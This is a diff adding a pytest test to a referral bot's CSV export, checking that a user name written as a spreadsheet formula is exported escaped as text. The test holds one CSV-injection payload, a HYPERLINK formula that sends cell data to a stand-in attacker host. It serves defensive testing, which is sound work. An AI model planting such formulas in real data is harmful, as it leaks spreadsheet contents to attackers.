@@ -134,3 +134,17 @@ def test_export_lists_who_referred_whom(db: str, tmp_path: Path) -> None:
     rows = list(csv.DictReader(target.open(encoding="utf-8")))
     assert rows[0]["referrer"] == "alice" and rows[0]["friend"] == "bob"
     assert rows[0]["status"] in ("qualified", "rewarded") and rows[0]["code"] == code
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(db: str, tmp_path: Path) -> None:
+    """A friend may call themselves anything on Telegram; the spreadsheet must not run it."""
+    runner = CliRunner()
+    chat = runner.invoke(app, ["chat", "--user", "alice"], input="LINK\n")
+    code = chat.output.split("/r/")[1][:8]
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"bob")'
+    runner.invoke(app, ["chat", "--user", evil], input=f"JOIN {code}\n")
+    target = tmp_path / "referrals.csv"
+    assert runner.invoke(app, ["export", str(target)]).exit_code == 0
+    [row] = list(csv.DictReader(target.open(encoding="utf-8-sig")))
+    assert row["friend"] == "'" + evil
+    assert row["referrer"] == "alice"
